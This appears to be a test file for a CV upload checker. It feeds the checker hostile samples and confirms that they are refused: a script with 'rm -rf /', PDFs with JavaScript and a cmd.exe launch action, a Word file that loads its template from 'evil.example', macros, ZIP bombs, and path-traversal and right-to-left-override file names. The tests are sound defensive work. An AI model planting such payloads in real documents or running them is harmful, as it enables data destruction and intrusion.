import zlib from 'node:zlib';
import sharp from 'sharp';
import { expect, test } from 'vitest';
import { sampleDoc, samplePdf, sampleZip, wordNames } from '#tests/sample-files.ts';
import { checkCv, cvName } from './cv-file.server.ts';
import { cvLimitBytes } from './stages.ts';

const faultOf = async (content: Buffer | string) => {
  const checked = await checkCv(Buffer.from(content));
  return checked.ok ? checked.kind : checked.fault;
};
const picture = () => sharp({ create: { width: 40, height: 40, channels: 3, background: '#888888' } });

test('the usual file types are recognised by content', async () => {
  expect(await faultOf(samplePdf())).toBe('pdf');
  expect(await faultOf(sampleDoc('WordDocument'))).toBe('doc');
  expect(await faultOf(sampleZip(wordNames))).toBe('docx');
  expect(await faultOf(sampleZip([{ name: '[Content_Types].xml' }, { name: 'word/document2.xml' }]))).toBe('docx');
  expect(await faultOf(await picture().jpeg().toBuffer())).toBe('jpg');
  expect(await faultOf(await picture().png().toBuffer())).toBe('png');
});

test('a script renamed to PDF is refused, whatever its first bytes', async () => {
  expect(await faultOf('#!/bin/sh\nrm -rf /\n')).toBe('other_kind');
  expect(await faultOf('%PDF-1.4\n<script>alert(1)</script>')).toBe('other_kind');
  expect(await faultOf('<html>%PDF-1.4 1 0 obj')).toBe('other_kind');
  expect(await faultOf(Buffer.concat([Buffer.from('%PDF-=1;#!/bin/sh\n'), samplePdf()]))).toBe('other_kind');
  expect(await faultOf(Buffer.concat([Buffer.from('MZ'), samplePdf()]))).toBe('other_kind');
  expect(await faultOf(samplePdf().subarray(0, 60))).toBe('broken');
  expect(await faultOf(sampleZip([{ name: 'cv.pdf.exe' }]))).toBe('other_kind');
  expect(await faultOf(sampleDoc('Workbook'))).toBe('other_kind');
  for (const short of ['', 'P', '%PDF', 'PK\u0003\u0004'])
    expect(['empty', 'other_kind', 'broken']).toContain(await faultOf(short));
});

test('bytes that some programs write around a PDF are ignored', async () => {
  const pdf = samplePdf();
  expect(await faultOf(Buffer.concat([Buffer.from('\ufeff'), pdf]))).toBe('pdf');
  expect(await faultOf(Buffer.concat([Buffer.from('\r\n\n'), pdf]))).toBe('pdf');
  expect(await faultOf(Buffer.concat([Buffer.alloc(2_000, '\n'), pdf]))).toBe('other_kind');
  for (const zeros of [4_096, 80_508]) expect(await faultOf(Buffer.concat([pdf, Buffer.alloc(zeros)]))).toBe('pdf');
  expect(await faultOf(pdf.toString('latin1').replace('1.4\n', '1.2\0\r\n').replace('1 0 obj', '1\r\n0\nobj'))).toBe(
    'pdf',
  );
  // Active content is found wherever the PDF begins.
  const script = samplePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> ');
  expect(await faultOf(Buffer.concat([Buffer.from('\ufeff\n'), script, Buffer.alloc(5_000)]))).toBe('active');
});

test('a truncated photo is reported as incomplete, an unsupported one by type, an HTML page is not a photo', async () => {
  const photo = await sharp({
    create: {
      width: 800,
      height: 800,
      channels: 3,
      background: '#fff',
      noise: { type: 'gaussian', mean: 128, sigma: 30 },
    },
  })
    .jpeg()
    .toBuffer();
  expect(await faultOf(photo.subarray(0, Math.floor(photo.length * 0.9)))).toBe('broken');
  expect(await faultOf(Buffer.concat([Buffer.from('\0\0\0\x18ftypheic\0\0\0\0mif1heic'), Buffer.alloc(500)]))).toBe(
    'heic',
  );
  expect(await faultOf(await picture().gif().toBuffer())).toBe('other_kind');
  expect(await faultOf('<svg xmlns="http://www.w3.org/2000/svg"/>')).toBe('other_kind');
  // Printer settings, as macOS writes them into the metadata.
  const settings = Buffer.from(
    'Photoshop 3.0\0<?xml version="1.0"?><!DOCTYPE plist PUBLIC "-//Apple"><plist version="1.0"/>',
  );
  const withMetadata = (metadata: Buffer) =>
    Buffer.concat([
      photo.subarray(0, 2),
      Buffer.from([0xff, 0xed, 0, metadata.length + 2]),
      metadata,
      photo.subarray(2),
    ]);
  expect(await faultOf(withMetadata(settings))).toBe('jpg');
  expect(await faultOf(withMetadata(Buffer.from('<!DOCTYPE html><body onload=alert(1)>')))).toBe('other_kind');
});

test('a document that loads its template or a picture is refused; hyperlinks are accepted', async () => {
  const document = (relation: string, encoding: BufferEncoding = 'utf8') =>
    sampleZip([
      ...wordNames,
      {
        name: 'word/_rels/settings.xml.rels',
        content: Buffer.from(`<?xml version="1.0"?><Relationships>${relation}</Relationships>`, encoding),
      },
    ]);
  const type = (name: string) => `Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${name}"`;
  const elsewhere = 'Target="https://evil.example/a.dotm" TargetMode="External"';
  expect(await faultOf(document(`<Relationship Id="r1" ${type('hyperlink')} ${elsewhere}/>`))).toBe('docx');
  expect(await faultOf(document(`<Relationship Id="r1" ${type('styles')} Target="styles.xml"/>`))).toBe('docx');
  for (const hidden of [
    `<Relationship Id="r1" ${type('attachedTemplate')} ${elsewhere}/>`,
    `<Relationship Id="r1" ${type('image')} ${elsewhere}/>`,
    `<r:Relationship Id='r1' TargetMode='&#69;xternal' Target='https://evil.example/>' ${type('attachedTemplate')}></r:Relationship>`,
  ])
    expect(await faultOf(document(hidden)), hidden).toBe('linked');
  expect(await faultOf(document(`<Relationship Id="r1" ${type('attachedTemplate')} ${elsewhere}/>`, 'utf16le'))).toBe(
    'linked',
  );
});

test('macros, embedded scripts and encrypted files are refused', async () => {
  expect(await faultOf(samplePdf('/OpenAction << /S /JavaScript /JS (app.alert(1)) >> '))).toBe('active');
  expect(await faultOf(samplePdf('/AA << /S /Launch /F (cmd.exe) >> '))).toBe('active');
  expect(await faultOf(sampleZip([...wordNames, { name: 'word/vbaProject.bin' }]))).toBe('active');
  expect(await faultOf(sampleDoc('WordDocument', '_VBA_PROJECT'))).toBe('active');
  expect(await faultOf(sampleDoc('EncryptedPackage'))).toBe('locked');
});

/** A PDF with object streams, as most programs write today. */
const packedPdf = (objects: string | Buffer, head = '/Filter /FlateDecode') => {
  const packed = head.includes('Flate') ? zlib.deflateSync(objects) : Buffer.from(objects);
  return Buffer.concat([
    Buffer.from(`%PDF-1.5\n4 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length ${packed.length} ${head} >>\nstream\n`),
    packed,
    Buffer.from('\nendstream\nendobj\nstartxref\n0\n%%EOF\n'),
  ]);
};

test('active content of a PDF is found in any notation and in object streams', async () => {
  expect(await faultOf(samplePdf('/AA << /S /J#61vaScript /J#53 (app.alert(1)) >> '))).toBe('active');
  expect(await faultOf(samplePdf('/AA << /JS%comment\n(app.alert(1)) >> '))).toBe('active');
  expect(await faultOf(samplePdf('/Title (JavaScript, JS and /Launching things) '))).toBe('pdf');
  const action = '5 0 << /S /JavaScript /JS (app.alert(1)) >>';
  expect(await faultOf(packedPdf('5 0 << /Type /Font >>'))).toBe('pdf');
  expect(await faultOf(packedPdf(action))).toBe('active');
  expect(await faultOf(packedPdf(action, ''))).toBe('active');
  expect(await faultOf(packedPdf(Buffer.from(action).toString('hex'), '/Filter /ASCIIHexDecode'))).toBe('broken');
  expect(await faultOf(packedPdf(Buffer.alloc(40 * 2 ** 20)))).toBe('bomb');
  const streams = Buffer.concat([packedPdf(''), Buffer.from('stream\n'.repeat(500_000)), packedPdf('')]);
  expect(await faultOf(streams)).toBe('pdf');
});

test('an encrypted PDF and a Word file with an embedded program are refused', async () => {
  expect(await faultOf(samplePdf('/Encrypt 9 0 R '))).toBe('locked');
  expect(await faultOf(sampleZip([...wordNames, { name: 'word/embeddings/oleObject1.bin' }]))).toBe('active');
  expect(await faultOf(sampleZip([...wordNames, { name: 'word/embeddings/Microsoft_Excel_Sheet1.xlsx' }]))).toBe(
    'docx',
  );
});

test('a ZIP bomb is detected within limits: by declared sizes, real sizes and overlapping entries', async () => {
  const zeros = Buffer.alloc(30 * 2 ** 20);
  expect(await faultOf(sampleZip([...wordNames, { name: 'a', content: zeros }]))).toBe('bomb');
  expect(await faultOf(sampleZip([...wordNames, { name: 'a', content: Buffer.alloc(70 * 2 ** 20), size: 10 }]))).toBe(
    'bomb',
  );
  expect(await faultOf(sampleZip([...wordNames, ...wordNames], { shared: true }))).toBe('bomb');
  expect(await faultOf(sampleZip(Array.from({ length: 3_000 }, (_, at) => ({ name: `${at}` }))))).toBe('bomb');
  expect(await faultOf(sampleZip(wordNames).subarray(0, 80))).toBe('broken');
});

test('files over ten megabytes are refused, and images with too many pixels by their header', async () => {
  expect(await faultOf(Buffer.concat([samplePdf(), Buffer.alloc(cvLimitBytes)]))).toBe('too_large');
  const huge = await sharp({ create: { width: 9_000, height: 9_000, channels: 3, background: '#ffffff' } })
    .png()
    .toBuffer();
  expect(await faultOf(huge)).toBe('bomb');
});

test('a file name loses its path and misleading characters, and gets the extension of its content', () => {
  expect(cvName('C:\\fakepath\\陈岚-简历.PDF', 'pdf')).toBe('陈岚-简历.pdf');
  expect(cvName('../../etc/passwd', 'docx')).toBe('passwd.docx');
  expect(cvName('cv\u202Efdp.exe', 'pdf')).toBe('cvfdp.pdf');
  expect(cvName('', 'jpg')).toBe('cv.jpg');
  expect(cvName(`${'长'.repeat(300)}.doc`, 'doc').length).toBe(64);
});

test('ten megabytes of digits instead of objects are scanned quickly', async () => {
  const digits = Buffer.concat([Buffer.from('%PDF-1.4\n'), Buffer.alloc(cvLimitBytes - 10, '1')]);
  expect(await faultOf(digits)).toBe('other_kind');
});
